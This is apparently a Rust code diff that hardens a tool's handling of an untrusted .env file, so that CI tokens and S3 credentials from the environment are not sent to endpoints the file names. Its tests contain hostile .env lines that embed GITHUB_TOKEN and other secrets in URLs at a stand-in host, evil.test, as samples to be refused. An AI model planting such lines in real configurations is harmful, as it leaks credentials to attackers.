@@ -1,20 +1,24 @@
 //! What a `.env` of the working directory may decide if somebody else may have written it.
 //!
-//! Its own token goes wherever it says. A token of the environment goes only to a URL of the environment: a checkout
-//! that is built in CI would otherwise collect it.
+//! Its own secrets go wherever it says. A secret of the environment goes only where the environment says: a checkout that
+//! is built in CI would otherwise collect it.
 
 use std::collections::BTreeMap;
 
+use bakery_context::s3;
 use bakery_core::compose::gather_dotenv;
-use bakery_core::mask::name_suggests_secret;
 use bakery_core::message::Message;
 use bakery_core::report::Findings;
 use bakery_core::vars::Vars as _;
 
-/// Default of `CONTROLLER_URL`.
-pub(crate) const LOCAL_URL: &str = "http://127.0.0.1:3000";
-/// Settings that are sent to others, or that decide where something is sent.
-const SENT: [&str; 4] = ["CONTROLLER_URL", "S3_ENDPOINT", "S3_REGION", "S3_BUCKET"];
+use crate::variables::{LOCAL_URL, VARIABLES};
+
+/// Settings that decide where something is sent, and how.
+const SENT: [&str; 5] = ["CONTROLLER_URL", "S3_ENDPOINT", "S3_SSL", "S3_REGION", "S3_BUCKET"];
+/// Settings that are secrets: the file may take them from the environment, but then they are not its own.
+const SECRETS: [&str; 4] = ["BAKERY_TOKEN", S3_KEYS[0], S3_KEYS[1], S3_KEYS[2]];
+/// Those of them that are credentials of the bucket.
+const S3_KEYS: [&str; 3] = ["S3_ACCESS_KEY", "S3_SECRET_KEY", "S3_SESSION_TOKEN"];
 /// What allows everything that is refused here.
 const ALLOW: &str = "--trust-dotenv";
 
@@ -33,36 +37,97 @@ pub(crate) fn untrusted_dotenv(
     mut values: BTreeMap<String, String>,
 ) -> UntrustedDotenv {
     let mut mistakes = Vec::new();
-    // A value that is another one without the environment's secrets has one of them in it.
-    let mut public = environment.clone();
-    public.retain(|name, _| !name_suggests_secret(name));
-    let own = gather_dotenv("", text, &public, &mut Findings::default());
-    let of_file = |name: &str| environment.setting(name).is_none().then(|| values.setting(name)).flatten();
-    let is_own = |name: &str| own.get(name) == values.get(name);
-    for name in SENT.into_iter().filter(|name| of_file(name).is_some() && !is_own(name)) {
-        let text = format!("{name} in .env contains a secret of the environment");
+    // What the file says without the environment is its own.
+    let own = gather_dotenv("", text, &BTreeMap::new(), &mut Findings::default());
+    let file = File { environment, values: &values, own: &own };
+    let settings = || VARIABLES.into_iter().filter(|name| !SECRETS.contains(name));
+    let taken: Vec<_> = settings().filter(|name| file.says(name).is_some() && !file.is_own(name)).collect();
+    for name in &taken {
+        // Its value may be a secret, and it would be sent, or shown in a message.
+        let text = format!("{name} in .env has a variable of the environment in it");
         mistakes.push(refused(&text, &format!("set {name} in the environment")));
     }
-    let has_token = environment.setting("BAKERY_TOKEN").is_some() || values.setting("BAKERY_TOKEN").is_some();
-    let token_is_own = environment.setting("BAKERY_TOKEN").is_none() && is_own("BAKERY_TOKEN");
-    if has_token && !token_is_own {
-        if of_file("CONTROLLER_URL").is_some_and(|url| url != LOCAL_URL) && is_own("CONTROLLER_URL") {
-            let text = "CONTROLLER_URL in .env is not used for BAKERY_TOKEN of the environment: whoever wrote the file would get the token";
-            mistakes.push(refused(text, "set CONTROLLER_URL in the environment as well"));
-        }
-        let insecure = of_file("BAKERY_INSECURE").is_some_and(|value| value == "true");
-        let encrypted = environment.setting("CONTROLLER_URL").is_none_or(|url| url.starts_with("https:"));
-        if insecure && !encrypted {
-            let text = "BAKERY_INSECURE in .env does not count for BAKERY_TOKEN of the environment";
-            mistakes.push(refused(text, "set BAKERY_INSECURE in the environment as well"));
-        }
+    mistakes.extend(file.mistakes_of_token());
+    mistakes.extend(file.mistakes_of_s3());
+    let token_is_own = file.token_is_own();
+    if !token_is_own {
         // What the file says for the rest of the settings still counts.
         values.retain(|name, _| name != "BAKERY_INSECURE");
     }
     if !mistakes.is_empty() {
-        values.retain(|name, _| !SENT.contains(&name.as_str()));
+        values.retain(|name, _| !SENT.contains(&name.as_str()) && !taken.contains(&name.as_str()));
     }
     UntrustedDotenv { values, mistakes }
+}
+
+/// A `.env` beside the environment.
+struct File<'a> {
+    environment: &'a BTreeMap<String, String>,
+    /// Its variables.
+    values: &'a BTreeMap<String, String>,
+    /// Its variables without the environment.
+    own: &'a BTreeMap<String, String>,
+}
+
+impl File<'_> {
+    /// The value of a setting that the environment does not have.
+    fn says(&self, name: &str) -> Option<String> {
+        self.environment.setting(name).is_none().then(|| self.values.setting(name)).flatten()
+    }
+
+    /// Whether the value of a variable has nothing of the environment in it.
+    fn is_own(&self, name: &str) -> bool {
+        self.own.get(name) == self.values.get(name)
+    }
+
+    /// Whether no token of the environment is sent.
+    fn token_is_own(&self) -> bool {
+        self.environment.setting("BAKERY_TOKEN").is_none() && self.is_own("BAKERY_TOKEN")
+    }
+
+    /// Why the token of the environment is not sent where the file says.
+    fn mistakes_of_token(&self) -> Vec<Message> {
+        let mut mistakes = Vec::new();
+        if self.token_is_own() {
+            return mistakes;
+        }
+        if self.says("CONTROLLER_URL").is_some_and(|url| url != LOCAL_URL) && self.is_own("CONTROLLER_URL") {
+            let text = "CONTROLLER_URL in .env is not used for BAKERY_TOKEN of the environment: whoever wrote the file would get the token";
+            mistakes.push(refused(text, "set CONTROLLER_URL in the environment as well"));
+        }
+        let insecure = self.says("BAKERY_INSECURE").is_some_and(|value| value == "true");
+        let encrypted =
+            self.environment.setting("CONTROLLER_URL").is_none_or(|url| url.starts_with("https:"));
+        if insecure && !encrypted {
+            let text = "BAKERY_INSECURE in .env does not count for BAKERY_TOKEN of the environment";
+            mistakes.push(refused(text, "set BAKERY_INSECURE in the environment as well"));
+        }
+        mistakes
+    }
+
+    /// Why the S3 credentials of the environment, or of the machine, are not used where the file says.
+    fn mistakes_of_s3(&self) -> Vec<Message> {
+        let is_of_file = |name: &str| self.environment.setting(name).is_none() && self.is_own(name);
+        let keys_are_own =
+            S3_KEYS.iter().all(|name| is_of_file(name)) && self.says("S3_SECRET_KEY").is_some();
+        let uses_s3 =
+            self.environment.setting("S3_BUCKET").is_some() || self.values.setting("S3_BUCKET").is_some();
+        if keys_are_own || !uses_s3 {
+            return Vec::new();
+        }
+        let elsewhere = self.says("S3_ENDPOINT").is_some_and(|endpoint| !s3::is_endpoint_of_aws(&endpoint));
+        let plain = self.says("S3_SSL").is_some_and(|value| value == "false");
+        let refuse = [("S3_ENDPOINT", elsewhere), ("S3_SSL", plain)].into_iter();
+        let names = refuse.filter(|(name, refuse)| *refuse && self.is_own(name));
+        names
+            .map(|(name, _)| {
+                let text = format!(
+                    "{name} in .env is not used for S3 credentials of the environment: whoever wrote the file would get them"
+                );
+                refused(&text, &format!("set {name} in the environment as well"))
+            })
+            .collect()
+    }
 }
 
 fn refused(text: &str, instead: &str) -> Message {
@@ -107,13 +172,46 @@ mod tests {
     }
 
     #[test]
-    fn no_secret_of_the_environment_is_a_part_of_where_something_is_sent() {
-        for text in
-            ["CONTROLLER_URL=https://${GITHUB_TOKEN}.evil.test", "S3_ENDPOINT=${GITHUB_TOKEN:?}.evil.test"]
-        {
-            let (refused, values) = read(&[("GITHUB_TOKEN", "hunter2")], text);
-            assert!(refused[0].contains("in .env contains a secret of the environment"), "{refused:?}");
+    fn nothing_of_the_environment_is_a_part_of_a_setting() {
+        for text in [
+            "CONTROLLER_URL=https://${CI_REPOSITORY_URL}.evil.test",
+            "S3_ENDPOINT=${GITHUB_TOKEN:?}.evil.test",
+            "LOG_FORMAT=${DATABASE_URL}",
+            "CONTROLLER_URL=https://${GITHUB_TOKEN:+set}.evil.test",
+        ] {
+            let environment =
+                ["CI_REPOSITORY_URL", "GITHUB_TOKEN", "DATABASE_URL"].map(|name| (name, "hunter2"));
+            let (refused, values) = read(&environment, text);
+            assert!(refused[0].contains("in .env has a variable of the environment in it"), "{refused:?}");
             assert!(values.is_empty() && !refused[0].contains("hunter2"));
+        }
+        // A token that is made of a variable with an innocent name is none of the file.
+        let text = "CONTROLLER_URL=https://evil.test\nBAKERY_TOKEN=${CI_REPOSITORY_URL}\n";
+        let (refused, _) = read(&[("CI_REPOSITORY_URL", "https://ci:hunter2@git.test")], text);
+        assert!(refused[0].starts_with("CONTROLLER_URL in .env is not used for BAKERY_TOKEN"), "{refused:?}");
+    }
+
+    #[test]
+    fn probe_23_3_s3_credentials_of_the_environment_do_not_go_to_an_endpoint_of_the_checkout() {
+        let keys =
+            [("S3_ACCESS_KEY", "a"), ("S3_SECRET_KEY", "s"), ("S3_SESSION_TOKEN", "t"), ("S3_BUCKET", "b")];
+        let (refused, values) = read(&keys, "S3_ENDPOINT=https://evil.test\nS3_SSL=false\nLOG_FORMAT=json\n");
+        insta::assert_snapshot!(refused.join("\n"), @r"
+        S3_ENDPOINT in .env is not used for S3 credentials of the environment: whoever wrote the file would get them
+        hint: set S3_ENDPOINT in the environment as well, or trust everything in this folder with --trust-dotenv
+        S3_SSL in .env is not used for S3 credentials of the environment: whoever wrote the file would get them
+        hint: set S3_SSL in the environment as well, or trust everything in this folder with --trust-dotenv
+        ");
+        assert_eq!(values, BTreeMap::from([("LOG_FORMAT".to_owned(), "json".to_owned())]));
+        // Those of the machine's role count as the environment's; the session of the environment goes with any key.
+        let file = "S3_BUCKET=b\nS3_ENDPOINT=http://s3.test:9000\n";
+        let own = "S3_ACCESS_KEY=a\nS3_SECRET_KEY=s\n";
+        assert_eq!(read(&[], file).0.len(), 1);
+        assert_eq!(read(&[], &format!("{file}{own}")).0, [""; 0]);
+        assert_eq!(read(&[("S3_SESSION_TOKEN", "t")], &format!("{file}{own}")).0.len(), 1);
+        assert_eq!(read(&[("X", "s")], &format!("{file}S3_ACCESS_KEY=a\nS3_SECRET_KEY=$X\n")).0.len(), 1);
+        for aws in ["s3.amazonaws.com", "https://s3.eu-west-1.amazonaws.com"] {
+            assert_eq!(read(&keys, &format!("S3_ENDPOINT={aws}\n")).0, [""; 0], "{aws}");
         }
     }
 
@@ -132,10 +230,10 @@ mod tests {
 
     #[test]
     fn a_checkout_with_its_own_token_and_settings_works_as_documented() {
-        let both = "CONTROLLER_URL=http://bakery.test\nBAKERY_TOKEN=own-${NAME}\nBAKERY_INSECURE=true\nS3_BUCKET=b\n";
+        let both = "PART=own\nCONTROLLER_URL=http://bakery.test\nBAKERY_TOKEN=$PART-token\nBAKERY_INSECURE=true\nS3_BUCKET=b\n";
         for (environment, text, count) in [
-            (vec![("NAME", "x")], both, 4),
-            (vec![("NAME", "x"), ("CONTROLLER_URL", "https://bakery.test")], both, 4),
+            (vec![("NAME", "x")], both, 5),
+            (vec![("NAME", "x"), ("CONTROLLER_URL", "https://bakery.test")], both, 5),
             (
                 vec![TOKEN, ("CONTROLLER_URL", "https://bakery.test")],
                 "CONTROLLER_URL=https://other.test\nS3_BUCKET=b",
@@ -143,7 +241,6 @@ mod tests {
             ),
             (vec![TOKEN], "CONTROLLER_URL=http://127.0.0.1:3000\nS3_BUCKET=b\n", 2),
             (vec![TOKEN], "", 0),
-            (vec![("NAME", "x")], "CONTROLLER_URL=https://$NAME.test", 1),
         ] {
             let (refused, values) = read(&environment, text);
             assert!(refused.is_empty(), "{text}: {refused:?}");
